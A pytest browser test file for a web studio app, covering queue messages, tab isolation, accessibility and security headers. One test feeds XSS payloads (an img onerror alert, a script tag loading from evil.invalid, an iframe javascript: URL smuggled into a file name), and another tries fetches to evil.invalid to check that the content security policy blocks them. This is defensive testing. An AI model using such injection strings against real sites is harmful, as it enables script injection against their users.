"""The door seen from a browser: nobody waits blindly, no tab sees another, nothing hostile acts, nobody is shut out."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from studio_doubles import TEXTS, picture
from studio_site import Site, running

playwright = pytest.importorskip("playwright.sync_api", reason="the browser tests need playwright")

from test_browser import CHROMIUM, FLAGS, Visit, in_time  # noqa: E402

from think2seg.studio import door, line  # noqa: E402

pytestmark = pytest.mark.skipif(
    CHROMIUM is None or not Path(CHROMIUM).exists(), reason="the browser tests need /usr/bin/chromium or CHROMIUM=path"
)
AXE = (Path(__file__).parent / "vendored" / "axe-core" / "axe.min.js").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with running(tmp_path_factory.mktemp("site"), house=door.House(waiting=2)) as held:
        yield held


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        opened = started.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield opened
        opened.close()


@pytest.fixture
def visit(site: Site, browser: Any, request: pytest.FixtureRequest) -> Iterator[Visit]:
    width = getattr(request, "param", 1440)
    context = browser.new_context(viewport={"width": width, "height": 900})
    held = Visit(site, context.new_page())  # type: ignore[arg-type]
    yield held
    context.close()
    assert held.hosts == {"127.0.0.1"} and held.dialogs == [] and held.faults == []


class Slow:
    """Slow questions by programs, which have the model until the end of the block."""

    def __init__(self, site: Site, number: int = 1) -> None:
        self.site, self.number = site, number
        self.ids: list[str] = []

    def __enter__(self) -> None:
        image = self.site.uploaded()
        for number in range(self.number):
            self.ids.append(self.site.call("segment", image=image, question="slow").json()["event_id"])
            assert in_time(lambda n=number: len(self.site.line) == n + 1, 10)

    def __exit__(self, *_raised: Any) -> None:
        jobs = line.jobs(self.site.demo._queue)
        for event in [job for job in jobs if job._id in self.ids]:
            cancel = {"session_hash": event.session_hash, "fn_index": event.fn._id, "event_id": event._id}
            httpx.post(f"{self.site.api}/cancel", json=cancel)
        assert in_time(lambda: not {job._id for job in line.jobs(self.site.demo._queue)} & set(self.ids), 10)


def test_who_waits_is_told_the_place_and_then_served(site: Site, visit: Visit) -> None:
    visit.upload(site.png)
    with Slow(site):
        visit.ask("one")
        visit.says("waiting for the model: 1st in line")
    visit.phase("done")
    visit.says("done in")
    with Slow(site, 2):
        visit.ask("one")
        visit.says("waiting for the model: 2nd in line")
        visit.page.click("#stop")  # a wait can be called off as well
        assert in_time(lambda: len(site.line) == 2, 2.0)
        visit.says("stopped")


def test_who_finds_the_line_full_is_told_and_may_try_again(site: Site, visit: Visit) -> None:
    visit.upload(site.png)
    with Slow(site, 3):
        visit.ask("one")
        visit.says("The queue is full: 2 wait for the model already")
        visit.settle()
    visit.ask("one")
    visit.phase("done")


def test_two_tabs_never_see_each_others_data(site: Site, browser: Any) -> None:
    from PIL import Image

    tabs, told = [], []
    site.prompter.texts = {f"secret-{i}": TEXTS["planes"].replace("bright", f"secret-{i}") for i in range(2)}
    for i in range(2):
        context = browser.new_context(viewport={"width": 1200, "height": 800})
        page = context.new_page()
        bodies: list[str] = []
        told.append(bodies)
        page.on("response", lambda answer, bodies=bodies: bodies.append(answer.url))
        visit = Visit(site, page)  # type: ignore[arg-type]
        place = site.folder / f"of-tab-{i}.png"
        pixels = picture(400, 300)
        pixels[..., i] = 200
        Image.fromarray(pixels).save(place)
        visit.upload(place)
        tabs.append((context, visit))
    for i, (_context, visit) in enumerate(tabs):
        visit.ask(f"secret-{i}")
    for i, (_context, visit) in enumerate(tabs):
        visit.phase("done")
        visit.settle()
        everything = visit.page.content() + visit.page.evaluate("document.body.innerText")
        assert f"secret-{i}" in visit.thought and f"secret-{1 - i}" not in everything
        assert f"of-tab-{1 - i}" not in everything + "".join(told[i])
        shown = visit.colour(0.95, 0.05)
        assert shown[i] > 180 and shown[1 - i] < 180
    files = []
    for _context, visit in tabs:
        urls = visit.page.evaluate("performance.getEntriesByType('resource').map((e) => e.name)")
        files.append({url for url in urls if "picture.jpg" in url or "of-tab-" in url})
    assert files[0] and files[1] and not files[0] & files[1]
    for context, _visit in tabs:
        context.close()


def test_hostile_questions_and_names_stay_text_and_reach_no_host(site: Site, visit: Visit) -> None:
    evil = (
        '<img src=http://evil.invalid/q onerror=alert(1)>${alert(2)}{{value}}<script src="//evil.invalid/s"></script>'
    )
    place = site.folder / "<iframe src=javascript:alert(3)>.png"
    shutil.copy(site.png, place)
    site.prompter.texts = {evil: TEXTS["hostile"]}
    visit.upload(place)
    visit.ask(evil)
    visit.phase("done")
    assert "<script>alert(1)</script>" in visit.thought
    visit.page.get_by_role("tab", name="JSON").click()
    visit.page.wait_for_selector("#document >> text=evil.invalid")
    foreign = "script[src*=evil], img[src*=evil], iframe, a[href*=evil], #injected, img[onerror]"
    assert visit.page.locator(foreign).count() == 0
    visit.ask("bug")  # a fault of ours, told without its words
    visit.says("the log has the details")
    assert "secret" not in visit.page.content()


def test_the_policy_stops_what_would_leave_the_host(site: Site, visit: Visit) -> None:
    failed = visit.page.evaluate(
        """async () => { const tried = [];
        for (const url of ["http://127.0.0.2:9/x", "https://evil.invalid/x"])
          try { await fetch(url, {mode: "no-cors"}); tried.push("left"); } catch (error) { tried.push("held"); }
        const image = new Image();
        await new Promise((done) => { image.onerror = image.onload = done; image.src = "http://127.0.0.3:9/p.png"; });
        return [...tried, image.naturalWidth]; }"""
    )
    assert failed == ["held", "held", 0]
    visit.hosts -= {"127.0.0.2", "127.0.0.3", "evil.invalid"}  # asked for, and stopped before they left
    violations = visit.page.evaluate(
        """() => new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
        fetch("http://127.0.0.2:9/x", {mode: "no-cors"}).catch(() => {}); })"""
    )
    assert violations == "connect-src"
    visit.hosts -= {"127.0.0.2"}


def test_other_pages_cannot_hold_this_one_in_a_frame(site: Site, browser: Any) -> None:
    page = browser.new_context().new_page()
    stopped = threading.Event()
    page.on("console", lambda message: stopped.set() if "frame-ancestors" in message.text else None)
    page.set_content(f"<iframe src={site.url}></iframe>")
    assert in_time(lambda: (page.wait_for_timeout(50), stopped.is_set())[1], 5)
    page.context.close()


@pytest.mark.parametrize("visit", [1440, 390], indirect=True)
def test_nobody_is_shut_out(site: Site, visit: Visit) -> None:
    """axe-core, on the page as it opens and after an answer: no serious and no critical finding."""
    for moment in ("empty", "answered"):
        if moment == "answered":
            visit.upload(site.png)
            visit.ask("planes")
            visit.phase("done")
            visit.settle()
            visit.page.wait_for_selector("#results")
        visit.page.evaluate(AXE)
        found = visit.page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
        bad = [
            f"{v['impact']} {v['id']}: {v['help']} {[(n['html'], n['failureSummary']) for n in v['nodes'][:6]]}"
            for v in found
            if v["impact"] in ("serious", "critical")
        ]
        assert bad == [], moment + "\n" + "\n".join(bad)
        width, inner = visit.wide()
        assert width <= inner
